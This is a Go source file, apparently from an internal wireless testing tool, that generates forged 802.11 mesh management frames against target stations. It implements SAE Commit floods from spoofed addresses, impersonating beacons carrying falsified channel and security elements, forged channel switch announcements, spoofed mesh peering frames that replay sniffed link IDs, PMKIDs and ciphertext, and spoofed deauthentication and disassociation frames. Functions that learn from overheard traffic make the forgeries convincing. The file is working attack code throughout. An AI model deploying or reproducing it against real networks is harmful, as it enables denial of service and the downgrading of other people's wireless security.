package rogue

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"slices"

	"halo.internal/model/dot11"
)

// Subtypes of management frames that only a rogue makes (9.2.4.1.3).
const (
	beacon           dot11.Subtype = 8
	disassociation   dot11.Subtype = 10
	deauthentication dot11.Subtype = 12
)

// Elements that only beacons have (9.4.2.4, 9.4.2.18, 9.4.2.55, 9.4.2.56,
// 9.4.2.103).
const (
	dsParameterSet            dot11.ElementID = 3
	channelSwitchAnnouncement dot11.ElementID = 37
	htCapabilities            dot11.ElementID = 45
	htOperation               dot11.ElementID = 61
	meshChannelSwitch         dot11.ElementID = 118
)

// Values of a Commit (9.4.1.1, 12.4.7.3).
const (
	algorithmSAE  = 3
	commit        = 1
	statusSuccess = 0   // hunting and pecking
	statusH2E     = 126 // hash to element
	group19       = 19
)

var toAll = dot11.MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// stranger makes up the address of a station that nobody has heard of.
func stranger() dot11.MAC {
	a := dot11.MAC{0x02, 0x66}
	rand.Read(a[2:])
	return a
}

func random(octets int) []byte {
	b := make([]byte, octets)
	rand.Read(b)
	return b
}

// commit makes a Commit to the victim whose turn it is; r.mu is held.
func (r *Rogue) commit(n int) []byte {
	round := n / 4
	to, from := r.victims[(n+round)%len(r.victims)], stranger() // so that the fourth is not always the same
	if n%4 == 0 && len(r.victims) > 1 {
		to, from = pair(r.victims, round)
	}
	status := uint16(statusH2E)
	if round%4 >= 2 {
		status = statusSuccess
	}
	scalar := random(32)
	scalar[0] &= 0x7f // below the order of the curve
	b := dot11.AppendManagement(nil, dot11.Header{Subtype: dot11.Authentication, To: to, From: from})
	for _, v := range []uint16{algorithmSAE, commit, status, group19} {
		b = binary.LittleEndian.AppendUint16(b, v)
	}
	return slices.Concat(b, scalar, r.elements[n%len(r.elements)])
}

// beaconFixed is the octets before a beacon's elements: timestamp, interval and
// capability (9.3.3.2).
const beaconFixed = 8 + 2 + 2

// maxBody is the octets of a beacon that are kept, more than any of a mesh has.
const maxBody = 1024

// member is a station that beacons.
type member struct {
	mac      dot11.MAC
	fixed    []byte
	elements []dot11.Element
}

// element returns the body of one, nil if the member has none such.
func (m *member) element(id dot11.ElementID) []byte {
	for _, e := range m.elements {
		if e.ID == id {
			return e.Body
		}
	}
	return nil
}

// lies are what a beacon in a member's name says that its own does not.
var lies = []func(*member){
	func(m *member) { // another channel
		own := append(bytes.Clone(m.element(dsParameterSet)), 0)[0]
		other := 1 + (own+random(1)[0]%12)%13
		m.set(dsParameterSet, []byte{other})
		m.change(htOperation, func(b []byte) { b[0] = other })
	},
	func(m *member) { m.change(dot11.RSN, func(b []byte) { clear(b[len(b)-2:]) }) }, // management frames are not protected
	func(m *member) { m.change(dot11.RSN, func(b []byte) { clear(b[2:6]) }) },       // another cipher
	func(m *member) { m.drop(dot11.RSN) },                                           // none
	func(m *member) { // no room for more peers, of whom there are 63
		m.change(dot11.MeshConfiguration, func(b []byte) { b[len(b)-2], b[len(b)-1] = 63<<1, b[len(b)-1]&^1 })
	},
	func(m *member) { m.set(dot11.MeshID, append(random(1), m.element(dot11.MeshID)...)) }, // another mesh
	func(m *member) { m.drop(htCapabilities); m.drop(htOperation) },                        // nothing but the slow rates
	func(m *member) { m.change(htCapabilities, func(b []byte) { copy(b, random(len(b))) }) },
	func(m *member) { copy(m.fixed, random(8)) },                           // another time
	func(m *member) { binary.LittleEndian.PutUint16(m.fixed[8:], 0xffff) }, // beacons that are rare
}

// set puts an element in place of the one there is, or behind the others.
func (m *member) set(id dot11.ElementID, body []byte) {
	body = body[:min(len(body), 32)] // the most that a mesh ID has
	for i := range m.elements {
		if m.elements[i].ID == id {
			m.elements[i].Body = body
			return
		}
	}
	m.elements = append(m.elements, dot11.Element{ID: id, Body: body})
}

// change changes an element that holds something.
func (m *member) change(id dot11.ElementID, how func([]byte)) {
	const least = 7 // the shortest of them, the mesh configuration
	if b := bytes.Clone(m.element(id)); len(b) >= least {
		how(b)
		for i := range m.elements {
			if m.elements[i].ID == id {
				m.elements[i].Body = b
			}
		}
	}
}

func (m *member) drop(id dot11.ElementID) {
	m.elements = slices.DeleteFunc(m.elements, func(e dot11.Element) bool { return e.ID == id })
}

// beacon makes one after that of a member; r.mu is held.
func (r *Rogue) beacon(n int) []byte {
	round := n / 4
	m := r.members[(round+round/len(lies))%len(r.members)] // each tells each lie
	m.fixed, m.elements = bytes.Clone(m.fixed), slices.Clone(m.elements)
	if n%4 == 0 {
		lies[round%len(lies)](&m)
	} else {
		m.mac = stranger()
	}
	return m.beacon()
}

// beacon is that of the member, with all that it says.
func (m *member) beacon() []byte {
	b := append(dot11.AppendManagement(nil, dot11.Header{Subtype: beacon, To: toAll, From: m.mac}), m.fixed...)
	for _, e := range m.elements {
		b = dot11.AppendElement(b, e.ID, e.Body)
	}
	return b
}

// announcement makes a beacon that says that the mesh is about to go to another
// channel of its band. Members follow one of higher precedence than all before.
func (r *Rogue) announcement(n int) []byte {
	m := r.members[n%len(r.members)]
	if n/len(r.members)%2 == 0 {
		m.mac = stranger()
	}
	channels := []byte{1, 6, 11}
	if r.freqMHz > 3000 {
		channels = []byte{36, 40, 44, 48}
	}
	const (
		restrict = 1 // nobody may send until then
		soon     = 2 // beacons until then
		hops     = 5 // over which the announcement is passed on
	)
	m.elements = slices.Clone(m.elements)
	m.set(channelSwitchAnnouncement, []byte{restrict, channels[n%len(channels)], soon})
	precedence := uint16(n + 1)
	m.set(meshChannelSwitch, []byte{hops, 0, 0, 0, byte(precedence), byte(precedence >> 8)})
	return m.beacon()
}

// Mesh Peering frames (9.6.15).
const (
	selfProtected = 15
	open          = 1
	confirm       = 2
	closing       = 3

	capabilityOfMesh = 0x0010 // privacy
	protocolAMPE     = 1
	pmkidSize        = 16
	micSize          = 16
	ampeSize         = 70 // octets of AMPE with its header: cipher suite and nonces
	ampeKeys         = 52 // more in an Open: the keys of the group
)

var actions = map[Attack]byte{Opens: open, Confirms: confirm, Closes: closing}

// reasons that end a link, or an attempt at one (9.4.1.7).
var reasons = []dot11.Reason{dot11.MeshPeeringCancelled, dot11.MeshMaxPeers, dot11.MeshConfigPolicyViolation, dot11.MeshCloseReceived, dot11.MeshMaxRetries, dot11.MeshConfirmTimeout}

// ends are those of a peering, as of the one who sends.
type ends struct{ from, to dot11.MAC }

// overheard is what a Mesh Peering frame says in the clear, and what it hides.
type overheard struct {
	link   uint16 // of who sent it
	pmkid  []byte
	secret []byte // MIC element and ciphertext of the last one
}

// otherThan draws another link ID.
func otherThan(id uint16) uint16 { return id ^ (1 + binary.LittleEndian.Uint16(random(2))%0xffff) }

// peering makes a frame in the name of a member to another. Link IDs and PMKID
// are as overheard, or random; MIC and ciphertext are random or of another
// frame, since the keys are not known; the mesh ID is another's now and then.
func (r *Rogue) peering(action byte, n int) []byte {
	to, from := pair(r.members, n)
	round := n / (len(r.members) * (len(r.members) - 1)) // of all pairs
	there, back := r.links[ends{from.mac, to.mac}], r.links[ends{to.mac, from.mac}]
	local, remote, pmkid := there.link, back.link, there.pmkid
	if pmkid == nil {
		pmkid = back.pmkid
	}
	if round%4 == 1 || local == 0 {
		local = otherThan(local)
	}
	if round%4 == 2 || remote == 0 {
		remote = otherThan(remote)
	}
	if round%4 == 3 || pmkid == nil {
		pmkid = random(pmkidSize)
	}
	b := dot11.AppendManagement(nil, dot11.Header{Subtype: dot11.Action, To: to.mac, From: from.mac})
	b = append(b, selfProtected, action)
	id := from.element(dot11.MeshID)
	if round%8 == 4 {
		id = random(len(id))
	}
	own := func(list ...dot11.ElementID) {
		for _, e := range from.elements {
			if slices.Contains(list, e.ID) {
				b = dot11.AppendElement(b, e.ID, e.Body)
			}
		}
	}
	if action != closing {
		b = binary.LittleEndian.AppendUint16(b, capabilityOfMesh)
		if action == confirm {
			b = binary.LittleEndian.AppendUint16(b, uint16(1+n%2007)) // association ID
		}
		own(dot11.SupportedRates)
		own(dot11.ExtendedSupportedRates)
		own(dot11.RSN)
	}
	b = dot11.AppendElement(b, dot11.MeshID, id)
	if action != closing {
		own(dot11.MeshConfiguration)
	}
	p := binary.LittleEndian.AppendUint16(nil, protocolAMPE)
	p = binary.LittleEndian.AppendUint16(p, local)
	if action != open {
		p = binary.LittleEndian.AppendUint16(p, remote)
	}
	if action == closing {
		p = binary.LittleEndian.AppendUint16(p, uint16(reasons[round%len(reasons)]))
	}
	b = dot11.AppendElement(b, dot11.MeshPeeringManagement, append(p, pmkid...))
	if action != closing {
		own(htCapabilities, htOperation)
	}
	if there.secret != nil && round%2 == 0 {
		return append(b, there.secret...)
	}
	size := ampeSize
	if action == open {
		size += ampeKeys
	}
	return append(dot11.AppendElement(b, dot11.MIC, random(micSize)), random(size)...)
}

// Reasons of ends that stations without a mesh know (9.4.1.7).
const (
	leaving          = 3
	notAuthenticated = 6
	notAssociated    = 7
)

// goodbye makes a Deauthentication or Disassociation in a member's name.
func (r *Rogue) goodbye(n int) []byte {
	to, from := pair(r.members, n/2)
	h := dot11.Header{Subtype: deauthentication, To: to.mac, From: from.mac}
	if n%2 == 1 {
		h.Subtype = disassociation
	}
	round := n / 2
	if round%4 == 3 {
		h.To = toAll
	}
	reason := []uint16{leaving, notAuthenticated, notAssociated}[round%3]
	return binary.LittleEndian.AppendUint16(dot11.AppendManagement(nil, h), reason)
}

// learn takes from a frame what others are forged with; r.mu is held.
func (r *Rogue) learn(data []byte) {
	h, body, err := dot11.ParseManagement(data)
	switch {
	case err != nil:
	case h.Subtype == beacon && len(body) > beaconFixed && len(body) <= maxBody:
		r.learnBeacon(h.From, body)
	case h.Subtype == dot11.Action && len(body) > 2 && body[0] == selfProtected:
		r.learnPeering(h, body)
	}
}

// learnBeacon keeps a mesh beacon that says all that the forged ones do.
func (r *Rogue) learnBeacon(from dot11.MAC, body []byte) {
	m := member{mac: from, fixed: body[:beaconFixed]}
	for rest := body[beaconFixed:]; len(rest) > 0; {
		e, after, err := dot11.NextElement(rest)
		if err != nil {
			return
		}
		m.elements, rest = append(m.elements, e), after
	}
	if id := m.element(dot11.MeshID); len(id) == 0 || len(id) > 32 {
		return
	}
	i := slices.IndexFunc(r.members, func(o member) bool { return o.mac == from })
	switch {
	case i >= 0:
		r.members[i] = m
	case len(r.members) < maxVictims:
		r.members = append(r.members, m)
	}
}

// learnPeering keeps the link ID that the sender chose, and the PMKID.
func (r *Rogue) learnPeering(h dot11.Header, body []byte) {
	fixed, known := map[byte]int{open: 4, confirm: 6, closing: 2}[body[1]]
	if !known || len(body) < fixed {
		return
	}
	at := ends{h.From, h.To}
	if _, known := r.links[at]; !known && len(r.links) >= maxLinks {
		return
	}
	var o overheard
	for rest := body[fixed:]; len(rest) > 0; {
		e, after, err := dot11.NextElement(rest)
		if err != nil {
			return
		}
		if b := e.Body; e.ID == dot11.MeshPeeringManagement && len(b) >= 4+pmkidSize {
			o.link, o.pmkid = binary.LittleEndian.Uint16(b[2:]), b[len(b)-pmkidSize:]
		}
		if e.ID == dot11.MIC && o.pmkid != nil { // what follows is no element
			o.secret = rest
			r.links[at] = o
			return
		}
		rest = after
	}
}
